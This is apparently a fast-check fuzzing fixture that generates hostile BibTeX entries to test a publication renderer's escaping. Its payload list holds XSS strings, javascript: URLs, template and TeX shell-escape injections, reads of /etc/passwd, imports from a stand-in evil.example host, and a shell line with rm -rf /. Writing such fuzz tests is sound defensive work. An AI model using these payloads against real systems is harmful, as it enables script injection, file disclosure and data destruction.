import fc from 'fast-check';
import { builtInLinks } from '../../src/publications/links/link-table.ts';

// biome-ignore-start lint/suspicious/noTemplateCurlyInString: payloads of template engines
/** Text that is code for a browser, a Markdown reader, TeX, Typst, a site generator, a terminal or JavaScript. */
export const payloads: readonly string[] = [
	'<script>alert(1)</script>',
	'</script><script>alert(1)</script>',
	'</style></title></textarea></template><img src=x onerror=alert(1)>',
	'"><svg/onload=alert(1)>',
	"' onmouseover='alert(1)' x='",
	'" style="background:url(//evil.example)" onfocus="alert(1)" autofocus x="',
	'--><iframe srcdoc="<script>alert(1)</script>">',
	'<a href="javascript:alert(1)">x</a>',
	'<math><mtext><style><img src onerror=alert(1)></style></mtext></math>',
	'<base href=//evil.example><meta http-equiv=refresh content="0;javascript:alert(1)">',
	'&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &quot;onload=&quot;',
	']]><script>alert(1)</script><![CDATA[',
	'\u003cimg src=x onerror=alert(1)\u003e \u2028alert(1)\u2029',
	'javascript:alert(1)',
	'java\tscript:alert(1)//https://example.org',
	' \u0001JaVaScRiPt:alert(1)',
	'data:text/html,<script>alert(1)</script>',
	'vbscript:msgbox(1)',
	'https://example.org/"onclick="alert(1)',
	'https://example.org/<script>alert(1)</script>',
	'//evil.example/x.js',
	'file:///etc/passwd',
	'[x](javascript:alert(1)) ![x](https://evil.example/x.png) [x]: javascript:alert(1)',
	'<javascript:alert(1)> <https://example.org/onload=alert(1)>',
	'```{=html}\n<script>alert(1)</script>\n```\n`<b>`{=html}',
	'\n\n<div onclick=alert(1)>\n\n# x\n\n- - -\n\n    code',
	'{: onclick="alert(1)"} {onclick=alert(1)} [x]{onclick=alert(1)} {raw:html}`<script>`',
	'{alert(1)} {`${alert(1)}`} <X onClick={alert} /> export const x = alert(1)',
	'import x from "https://evil.example/x.js"\nexport default alert(1)',
	'{{ 7*7 }} {{{x}}} {% include evil %} {{< evil >}} {{% evil %}} {#x#} <%= x %> <?php phpinfo(); ?> ${x}',
	'{{constructor.constructor("alert(1)")()}}',
	'\\input{/etc/passwd} \\include{x} \\openin5=x \\read5to\\x',
	'\\immediate\\write18{id} \\directlua{os.execute("id")} \\special{x}',
	'\\catcode`\\@=0 @input{/etc/passwd} ^^5cinput{/etc/passwd}',
	'\\csname input\\endcsname{/etc/passwd} \\def\\x{\\x}\\x \\newcommand{\\em}{\\input}',
	'\\begin{filecontents}{x}\\end{filecontents} \\end{document} \\begin{verbatim}',
	'\\href{javascript:alert(1)}{x} \\url{javascript:alert(1)} \\href{https://example.org/\\input{x}}{y}',
	'\\verb|<script>alert(1)</script>| \\texttt{`<b>`} \\textsuperscript{<script>alert(1)</script>}',
	'$\\href{javascript:alert(1)}{x} \\input{x}$ $\\text{<img src=x onerror=alert(1)>}$',
	'$\\class{x" onclick="alert(1)}{y} \\style{x:expression(alert(1))}{y} \\unicode{x} \\require{html}$',
	'$</math><script>alert(1)</script>$ $$\\write18{id}$$ \\(\\includegraphics{http://evil.example/x}\\)',
	'% \\input{x}\n\\input{y} %',
	'#read("/etc/passwd") #eval("1") #include "x.typ" #import "x.typ" #set page(width: 1pt) $#x$ \\#x',
	'"); #read("x") //',
	'*/ alert(1) /* */} {/* ',
	'\u001b[31m\u001b]0;x\u0007\u009b31m \u202eevil\u202c \u2066x\u2069',
	'$(id) `id` ; rm -rf / | cat',
	'../../../../etc/passwd',
	'__proto__',
	'constructor',
	'\u0000\u0001\u007f\u0085\ufeff\ufffex',
];
// biome-ignore-end lint/suspicious/noTemplateCurlyInString: payloads of template engines

const fieldNames = [
	...`abstract addendum address afterword annotation annote __proto__ constructor archiveprefix author authors award bdsk-file-1 bdsk-url-1
	bookauthor booktitle chapter comment crossref date doi edition editor editortype eid eprint eprintclass eprinttype eventdate
	eventtitle file foreword gender hyphenation howpublished ids institution introduction isbn issn issue issuetitle journal
	journaltitle key keywords langid language library location month nameaddon note number options organization origdate
	origlanguage pages pagetotal part preview pubstate publisher related relatedtype school selected series shortauthor
	shortjournal shorttitle sortkey subtitle tags title titleaddon translator type url urldate venue verba version volume xdata
	year author+an author+an:orcid author+an:highlight title+an x-custom`.split(/\s+/),
	...builtInLinks.flatMap(({ kind, fields }) => [kind, ...fields]),
];
const types =
	`article book inbook incollection inproceedings manual misc online patent phdthesis proceedings software talk
	techreport thesis unpublished dataset award lecture video standard legislation script __proto__ constructor x`.split(
		/\s+/,
	);

/** Markup around a payload, in which it may be read differently. */
const wrappers = [
	'{}',
	'{{}}',
	'x {}',
	'{} y',
	'\\emph{{}}',
	'\\textbf{{}} {}',
	'$x$ {}',
	'\\url{{}}',
	'\\href{{}}{x}',
	'https://example.org/{}',
	'10.1000/{}',
	'Weber, {} and {}, Marie',
	'2020 {}',
	'"{}"',
	'`{}`',
];

const value = fc
	.tuple(fc.constantFrom(...wrappers), fc.constantFrom(...payloads), fc.constantFrom('', ...payloads))
	.map(([wrapper, first, second]) => `${wrapper.replaceAll('{}', () => first)}${second && ` ${second}`}`);

/** Braces of a value that do not match would end it, so unmatched ones are removed. */
function balanced(text: string): string {
	let depth = 0;
	const kept = [...text].filter((character) => {
		if (character === '{') depth++;
		if (character === '}') depth--;
		if (depth >= 0) return true;
		depth = 0;
		return false;
	});
	return kept.join('') + '}'.repeat(depth);
}

/** Few entries have most of the fields, because they take the most time. */
const fields = fc.oneof(
	{ weight: 49, arbitrary: fc.dictionary(fc.constantFrom(...fieldNames), value, { minKeys: 3, maxKeys: 10 }) },
	{
		weight: 1,
		arbitrary: fc.dictionary(fc.constantFrom(...fieldNames), value, { minKeys: 60, maxKeys: fieldNames.length }),
	},
);

/** An entry with payloads in its fields, in some of its keys, and sometimes in names of fields, macros and preambles. */
export const hostileEntry: fc.Arbitrary<string> = fc
	.record({
		type: fc.constantFrom(...types),
		key: fc.oneof(
			fc.nat(999).map((number) => `key${number}`),
			fc.constantFrom(...payloads.map((text) => text.replace(/[\s,{}%"#\\]/g, ''))),
		),
		title: value,
		fields,
		before: fc.oneof(
			{ weight: 8, arbitrary: fc.constant('') },
			value.map((text) => `@preamble{{${balanced(text)}}}\n`),
			fc.constantFrom(
				'@preamble{{\\newcommand{\\emph}[1]{\\input{#1}}}}\n',
				'@string{x = "</script><script>alert(1)</script>"}\n',
				'@comment{</script><script>alert(1)</script>}\n',
			),
		),
	})
	.map(({ type, key, title, fields, before }) => {
		const all = Object.entries({ author: 'Weber, Marie', year: '2020', title, ...fields });
		return `${before}@${type}{${key},\n${all.map(([name, text]) => `\t${name} = {${balanced(text)}},\n`).join('')}}\n`;
	});
